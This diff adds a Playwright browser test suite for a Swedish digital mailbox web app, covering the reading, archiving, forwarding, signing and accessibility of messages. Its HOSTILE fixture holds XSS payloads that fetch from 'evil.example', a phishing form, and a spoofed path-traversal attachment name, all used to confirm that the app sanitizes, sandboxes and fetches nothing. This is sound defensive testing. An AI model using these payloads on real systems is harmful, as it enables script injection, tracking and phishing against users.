@@ -1,0 +1,354 @@
+"""The inbox in a real browser: on a desktop, on a phone, by keyboard, and without JavaScript."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import BrowserContext, Page, Playwright, expect, sync_playwright
+
+from mm_soap.demonstration import OPERATOR_TWO, RECIPIENT, RECIPIENT_AT_TWO
+from mm_soap.message import new_message
+from tests.e2e.browser import DESKTOP, PHONE, accessibility, chromium, too_wide
+from tests.e2e.inbox import PDF, put, send, sign_in, sign_text
+from tests.e2e.suite import Demonstration, Server
+
+pytestmark = [pytest.mark.needs_program("chromium"), pytest.mark.slow]
+
+PICTURES = os.environ.get("MM_SOAP_TEST_PICTURES")
+"""A folder into which the pages are written as pictures, for the documentation and for looking at."""
+
+HOSTILE = (
+    """<h1>Hej</h1><p onclick="boom()">Text</p><script>fetch('https://evil.example/script')</script>
+<img src="https://evil.example/pixel.png" onerror="fetch('https://evil.example/error')">
+<form action="https://evil.example/form"><input name="pin"><button>Skicka</button></form>
+<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
+<link rel="stylesheet" href="https://evil.example/style"><base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example/meta"><svg onload="fetch('https://evil.example/svg')"/>
+<div style="background-image:url(https://evil.example/css)">x</div><a href="javascript:alert(1)">klicka</a>
+<table width="9000"><tr>"""
+    + "<td>cell</td>" * 300
+    + "</tr></table>"
+)
+
+
+@pytest.fixture(scope="module")
+def demo(fresh_for_module: Demonstration) -> Demonstration:
+    return fresh_for_module
+
+
+@pytest.fixture(scope="module")
+def served(demo: Demonstration) -> Server:
+    return demo.serve()
+
+
+@pytest.fixture(scope="module")
+def playwright() -> Iterator[Playwright]:
+    with sync_playwright() as started:  # one of them: a second cannot be started beside it
+        yield started
+
+
+LOOKS: dict[str, dict[str, Any]] = {
+    "desktop": {"viewport": DESKTOP},
+    "phone": {"viewport": PHONE, "is_mobile": True, "has_touch": True},
+}
+
+
+@pytest.fixture(params=LOOKS)
+def look(request: pytest.FixtureRequest) -> str:
+    return str(request.param)
+
+
+@pytest.fixture
+def context(playwright: Playwright, look: str, tmp_path: Path) -> Iterator[BrowserContext]:
+    with chromium(playwright, tmp_path / "profile", **LOOKS[look]) as started:
+        yield started
+
+
+@pytest.fixture
+def page(context: BrowserContext, served: Server) -> Iterator[Page]:
+    """A page that notes mistakes, and whatever it asks of anybody but the server."""
+    opened = context.new_page()
+    mistakes: list[str] = []
+    elsewhere: list[str] = []
+    own = urlsplit(served.url).netloc
+    opened.on("console", lambda message: mistakes.append(message.text) if message.type == "error" else None)
+    opened.on("dialog", lambda dialog: mistakes.append(dialog.message))
+    context.on("request", lambda one: None if urlsplit(one.url).netloc in (own, "") else elsewhere.append(one.url))
+    yield opened
+    opened.close()
+    assert [text for text in mistakes if not any(code in text for code in ("400", "403", "404", "409"))] == []
+    assert elsewhere == []
+
+
+def pictured(page: Page, name: str) -> None:
+    if PICTURES:
+        page.screenshot(path=Path(PICTURES) / f"inbox-{name}.png")
+
+
+def good(page: Page) -> None:
+    assert accessibility(page) == []
+    assert not too_wide(page)
+
+
+def test_the_life_of_a_message(demo: Demonstration, served: Server, page: Page, look: str) -> None:
+    subject = f"Beslut om bygglov {look}"
+    text = "Hej!\n\nVi har beviljat din ansökan om bygglov.\n\nVänliga hälsningar\nBygglovsenheten"
+    send(demo, served, new_message(subject, text=text, attachments=[("Beslut.pdf", "application/pdf", PDF)]))
+    page.goto(f"{served.url}/Inbox?language=sv")
+    good(page)
+    pictured(page, f"start-{look}")
+    page.get_by_role("link", name="Logga in med e-legitimation").click()
+    good(page)
+    page.get_by_role("button", name="Anna Demo", exact=True).click()
+    row = page.locator(".letters li", has_text=subject)
+    expect(row).to_have_class("unread")
+    expect(row.get_by_role("img", name="Bilaga")).to_be_visible()
+    good(page)
+    pictured(page, f"list-{look}")
+    row.get_by_role("link").click()
+    expect(page.get_by_role("heading", level=1)).to_have_text(subject)
+    expect(page.get_by_text("Vi har beviljat din ansökan")).to_be_visible()
+    good(page)
+    pictured(page, f"message-{look}")
+    with page.expect_download() as fetched:
+        page.get_by_role("link", name="Ladda ner Beslut.pdf").click()
+    assert fetched.value.suggested_filename == "Beslut.pdf"
+    assert fetched.value.path().read_bytes() == PDF
+    page.get_by_role("link", name="Till listan").click()
+    expect(row).not_to_have_class("unread")
+    row.get_by_role("link").click()
+    page.get_by_role("button", name="Arkivera").click()
+    expect(page.get_by_role("status")).to_have_text("Meddelandet ligger i arkivet.")
+    expect(row).to_have_count(0)
+    page.get_by_label("Sök bland meddelanden").fill(f"bygglov {look}")
+    page.get_by_role("button", name="Sök").click()
+    good(page)
+    row.get_by_role("link").click()
+    page.get_by_role("button", name="Lägg tillbaka").click()
+    expect(row).to_have_count(1)
+    row.get_by_role("link").click()
+    page.get_by_role("button", name="Släng").click()
+    page.goto(f"{served.url}/Inbox?place=-2")
+    row.get_by_role("link").click()
+    page.get_by_role("button", name="Radera för alltid").click()
+    page.goto(f"{served.url}/Inbox?place=-2")
+    expect(row).to_have_count(0)
+    page.get_by_role("button", name="Logga ut").click()
+    expect(page.get_by_role("heading", level=1)).to_have_text("Du är utloggad")
+    good(page)
+    page.goto(f"{served.url}/Inbox")
+    expect(page.get_by_role("link", name="Logga in med e-legitimation")).to_be_visible()
+
+
+def test_a_hostile_message_runs_nothing_and_fetches_nothing(
+    demo: Demonstration, served: Server, page: Page, look: str
+) -> None:
+    subject = f"<script>alert(1)</script> {look}"
+    files = [("../../etc/pass\u202efdp.exe", "application/pdf", b"MZ, no PDF"), ("a/b\\c.pdf", "application/pdf", PDF)]
+    put(demo, new_message(subject, html=HOSTILE, attachments=files))
+    sign_in(page, served)
+    page.locator(".letters a", has_text=look).first.click()
+    expect(page.get_by_role("heading", level=1)).to_have_text(subject)
+    note = page.locator(".note").first
+    for what in ("scripts", "forms", "pictures that would be fetched", "embedded pages", "links of an unknown kind"):
+        expect(note).to_contain_text(what)
+    frame = page.frame_locator("iframe.body")
+    expect(frame.get_by_role("heading", level=1)).to_have_text("Hej")
+    expect(frame.locator("script, form, input, iframe, object, link, base, svg, [onclick], [onerror]")).to_have_count(0)
+    assert page.locator("iframe.body").get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
+    expect(page.get_by_text("The file is not of the kind")).to_have_count(1)
+    good(page)
+    pictured(page, f"hostile-{look}")
+    with page.expect_download() as fetched:
+        page.get_by_role("link", name="Download").first.click()
+    assert fetched.value.suggested_filename == "_.._etc_passfdp.exe"
+    page.goto(page.locator("iframe.body").evaluate("frame => frame.src"))  # alone, it is in a sandbox too
+    expect(page.get_by_role("heading", level=1)).to_have_text("Hej")
+
+
+def test_senders_are_deselected_and_selected_by_signing(served: Server, page: Page, look: str) -> None:
+    sign_in(page, served)
+    page.get_by_role("link", name="Senders").click()
+    good(page)
+    pictured(page, f"senders-{look}")
+    page.get_by_label("Kommun B").uncheck()
+    page.get_by_role("button", name="Sign and save").click()
+    expect(page.locator("pre")).to_contain_text("from all connected senders except: Kommun B.")
+    good(page)
+    pictured(page, f"sign-{look}")
+    sign_text(page)
+    expect(page.get_by_role("status")).to_have_text("The change is signed and saved.")
+    expect(page.get_by_label("Kommun B")).not_to_be_checked()
+    page.get_by_label("Kommun B").check()
+    page.get_by_role("button", name="Sign and save").click()
+    sign_text(page, "Bertil Demo")
+    expect(page.get_by_role("alert")).to_have_text("It was not you who signed.")
+    good(page)
+    page.get_by_role("link", name="Senders").click()
+    expect(page.get_by_label("Kommun B")).not_to_be_checked()
+    page.get_by_label("Kommun B").check()
+    page.get_by_role("button", name="Sign and save").click()
+    page.get_by_role("button", name="Cancel").click()
+    expect(page.get_by_role("alert")).to_have_text("You broke off the sign-in.")
+    page.get_by_role("link", name="Senders").click()
+    page.get_by_label("Kommun B").check()
+    page.get_by_role("button", name="Sign and save").click()
+    sign_text(page)
+    expect(page.get_by_label("Kommun B")).to_be_checked()
+
+
+def test_contact_settings(served: Server, page: Page, look: str) -> None:
+    sign_in(page, served)
+    page.get_by_role("link", name="Notifications").click()
+    good(page)
+    pictured(page, f"contact-{look}")
+    page.get_by_label("Mobile number").fill("07")
+    page.get_by_role("button", name="Save").click()
+    expect(page.get_by_role("alert")).to_have_text("Write a number of 5 to 15 digits.")
+    good(page)
+    page.get_by_label("Mobile number").fill("070-174 06 05")
+    page.get_by_role("button", name="Save").click()
+    expect(page.get_by_role("status")).to_have_text("Saved.")
+    expect(page.get_by_label("Mobile number")).to_have_value("0701740605")
+
+
+def test_a_message_is_forwarded_to_another_operator(demo: Demonstration, served: Server, page: Page, look: str) -> None:
+    subject = f"Kallelse {look}"
+    send(demo, served, new_message(subject, text="Kom.", attachments=[("a.pdf", "application/pdf", PDF)]))
+    sign_in(page, served)
+    page.locator(".letters a", has_text=subject).click()
+    page.get_by_role("link", name="Forward").click()
+    good(page)
+    page.get_by_label("To:").fill("19121212-1212")
+    page.get_by_label("Your words").fill("Se här!")
+    page.get_by_role("button", name="Send").click()
+    expect(page.get_by_role("alert")).to_have_text("The recipient cannot be reached digitally.")
+    good(page)
+    page.get_by_label("To:").fill(RECIPIENT_AT_TWO)
+    pictured(page, f"forward-{look}")
+    page.get_by_role("button", name="Send").click()
+    expect(page.get_by_role("status")).to_have_text("The message is forwarded.")
+    sign_in(page, served, "Bertil Demo", path=OPERATOR_TWO.path)
+    page.locator(".letters a", has_text=subject).click()
+    expect(page.get_by_role("heading", level=2).first).to_have_text("Forwarded by Anna Demo")
+    expect(page.get_by_text("Se här!")).to_be_visible()
+    expect(page.get_by_role("link", name="Download a.pdf")).to_be_visible()
+    good(page)
+
+
+def test_direct_links_lead_into_those_mailboxes_that_one_may_open(served: Server, page: Page) -> None:
+    page.goto(f"{served.url}/Inbox?recipientId={RECIPIENT}")
+    assert RECIPIENT not in page.url
+    page.locator("a.act").click()
+    page.get_by_role("button", name="Anna Demo", exact=True).click()
+    expect(page.locator(".whose")).to_contain_text("Anna Demo")
+    seen = []
+    for number in (RECIPIENT_AT_TWO, "189003619807", "191212121212", "nonsense"):
+        page.goto(f"{served.url}/Inbox?recipientId={number}")
+        assert number not in page.url
+        seen.append(page.locator("main").inner_text())
+        good(page)
+    assert len(set(seen)) == 1
+    assert "cannot open this mailbox" in seen[0] or "inte öppna" in seen[0]
+    page.goto(f"{served.url}/AccountRequest?recipientId={RECIPIENT}")
+    assert page.url == f"{served.url}/AccountRequest"
+    good(page)
+
+
+def test_a_company_is_chosen_and_left_again(served: Server, page: Page, look: str) -> None:
+    sign_in(page, served)
+    page.get_by_role("link", name="Change mailbox").click()
+    good(page)
+    pictured(page, f"mailboxes-{look}")
+    page.get_by_role("button", name="Demobolaget AB").click()
+    expect(page.locator(".whose")).to_contain_text("Demobolaget AB")
+    expect(page.get_by_text("There are no messages here.")).to_be_visible()
+    good(page)
+    page.get_by_role("link", name="Change mailbox").click()
+    page.get_by_role("button", name="Anna Demo").click()
+    expect(page.locator(".whose")).to_contain_text("Anna Demo")
+
+
+def test_a_mailbox_is_opened_moved_and_closed(served: Server, page: Page, look: str) -> None:
+    who = "Tolvan Demo"
+    sign_in(page, served, who)
+    if look == "desktop":  # the first time
+        expect(page.get_by_role("heading", level=1)).to_have_text("You have no mailbox here")
+        good(page)
+    page.get_by_role("link", name="Account").first.click()
+    page.get_by_role("button", name="Open a mailbox at Brevlåda Ett").click()
+    sign_text(page, who)
+    expect(page.get_by_role("status")).to_have_text("The mailbox is open.")
+    good(page)
+    pictured(page, f"account-{look}")
+    sign_in(page, served, who, path=OPERATOR_TWO.path)
+    page.goto(f"{served.url}{OPERATOR_TWO.path}/AccountRequest")
+    page.get_by_role("button", name="Move the mailbox to Brevlåda Två").click()
+    sign_text(page, who)
+    expect(page.get_by_role("status")).to_have_text("The mailbox has moved here.")
+    page.get_by_role("button", name="Close the mailbox").click()
+    sign_text(page, who)
+    expect(page.get_by_role("status")).to_have_text("The mailbox is closed.")
+    good(page)
+
+
+def test_too_low_a_level_lets_nobody_in(served: Server, page: Page) -> None:
+    page.goto(f"{served.url}/Inbox?language=en")
+    page.locator("a.act").click()
+    page.get_by_label("Assurance level (acr)").select_option(label="loa2")
+    page.get_by_role("button", name="Anna Demo", exact=True).click()
+    expect(page.get_by_role("alert")).to_contain_text("too low an assurance level")
+    good(page)
+    page.goto(f"{served.url}/Inbox")
+    expect(page.get_by_role("link", name="Sign in with e-identification")).to_be_visible()
+
+
+def test_the_keyboard_is_enough(demo: Demonstration, served: Server, page: Page, look: str) -> None:
+    if look == "phone":
+        return  # it has no keyboard
+    send(demo, served, new_message("Med tangenter", text="Hej."))
+    page.goto(f"{served.url}/Inbox?language=en")
+    page.keyboard.press("Tab")
+    expect(page.get_by_text("Skip to the content")).to_be_focused()
+    page.keyboard.press("Enter")
+    page.keyboard.press("Tab")
+    page.keyboard.press("Enter")
+    button = page.get_by_role("button", name="Anna Demo", exact=True)
+    _tab_to(page, button)
+    page.keyboard.press("Enter")
+    _tab_to(page, page.locator(".letters a", has_text="Med tangenter"))
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("heading", level=1)).to_have_text("Med tangenter")
+    _tab_to(page, page.get_by_role("button", name="Archive"))
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("status")).to_have_text("The message is in the archive.")
+
+
+def _tab_to(page: Page, wanted: Any) -> None:
+    for _ in range(60):
+        if wanted.evaluate("element => element === document.activeElement"):
+            return
+        page.keyboard.press("Tab")
+    raise AssertionError("the keyboard does not reach it")
+
+
+def test_all_of_it_works_without_javascript(
+    demo: Demonstration, served: Server, playwright: Playwright, tmp_path: Path
+) -> None:
+    put(demo, new_message("Utan program", html="<h1>Rubrik</h1><p>Text</p>"))
+    with chromium(playwright, tmp_path / "profile", viewport=PHONE, java_script_enabled=False) as context:
+        page = context.new_page()
+        sign_in(page, served)
+        page.locator(".letters a", has_text="Utan program").click()
+        expect(page.frame_locator("iframe.body").get_by_role("heading")).to_have_text("Rubrik")
+        page.get_by_role("button", name="Throw away").click()
+        expect(page.get_by_role("status")).to_have_text("The message is in the trash.")
+        page.locator("details summary").click()
+        page.get_by_role("link", name="Trash").click()
+        expect(page.locator(".letters a", has_text="Utan program")).to_be_visible()
+        page.get_by_role("button", name="Sign out").click()
